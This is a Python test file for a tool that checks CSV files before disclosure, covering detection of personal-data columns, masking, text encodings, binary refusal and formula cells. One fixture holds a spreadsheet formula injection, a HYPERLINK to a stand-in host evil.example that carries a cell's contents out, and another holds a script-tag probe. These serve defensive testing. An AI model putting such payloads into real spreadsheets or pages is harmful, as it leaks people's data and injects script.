"""CSV files: personal-data columns, formula cells, and hostile content."""

from __future__ import annotations

from django.test import SimpleTestCase

from tests.disclosure.files import check


def csv(text: str) -> bytes:
    return text.encode("utf-8")


class CsvTests(SimpleTestCase):
    def test_a_table_of_counts_passes(self) -> None:
        report = check(csv("Month,Burglaries\nJanuary,12\nFebruary,9\n"), "counts.csv")
        self.assertEqual(report.verdict, "pass")

    def test_it_finds_each_personal_data_column(self) -> None:
        data = csv(
            "Name,Date of birth,Email,Phone,NI number,Postcode\n"
            "Mary Brown,02/03/1984,mary@example.org,07700 900123,AB123456C,SW1A 1AA\n"
            "David Wilson,23/11/1990,david@example.org,020 7946 0000,CE123456D,M1 1AE\n"
        )
        report = check(data, "people.csv")
        kinds = {f.title.split(": ")[0] for f in report.of_kind("personal_data")}
        self.assertEqual(kinds, {
            "A column that looks like names", "A column that looks like dates of birth",
            "A column that looks like email addresses", "A column that looks like phone numbers",
            "A column that looks like National Insurance numbers", "A column that looks like UK postcodes",
        })
        self.assertEqual(report.verdict, "fail")

    def test_it_finds_columns_by_content_without_headers_it_knows(self) -> None:
        data = csv("A,B\nx,mary@example.org\ny,david@example.org\n")
        [finding] = check(data, "odd.csv").of_kind("personal_data")
        self.assertEqual(finding.location.range, "column 2 “B”")

    def test_it_reads_a_semicolon_separated_windows_1252_file(self) -> None:
        data = "Name;Town\nZoë Brown;Leeds\nSiân Jones;Cardiff\n".encode("cp1252")
        [finding] = [f for f in check(data, "people.csv").of_kind("personal_data") if f.severity >= 2]
        self.assertIn("names", finding.title)
        self.assertEqual(finding.evidence, ("Z*** B****", "S*** J****"))

    def test_it_flags_formula_cells_and_does_not_run_them(self) -> None:
        data = csv('Name,Note\nMary Brown,"=HYPERLINK(""http://evil.example/?""&A2)"\nDavid Wilson,@SUM(1)\n')
        [finding] = check(data, "people.csv").of_kind("formula_cells")
        self.assertEqual(finding.count, 2)

    def test_negative_numbers_are_not_formulas(self) -> None:
        self.assertEqual(check(csv("Change\n-3\n+4\n"), "n.csv").of_kind("formula_cells"), [])

    def test_html_in_a_header_stays_text(self) -> None:
        data = csv("<script>alert(1)</script>,Email\nx,mary@example.org\n")
        report = check(data, "x.csv")
        self.assertEqual(len(report.of_kind("personal_data")), 1)

    def test_a_csv_without_a_header_row_has_nothing_to_report(self) -> None:
        self.assertEqual(check(csv("\n\n\n"), "empty.csv").findings, [])

    def test_binary_data_named_csv_is_refused(self) -> None:
        from incidents.disclosure import Refused

        with self.assertRaises(Refused):
            check(b"\x00\x01\x02" * 100, "x.csv")
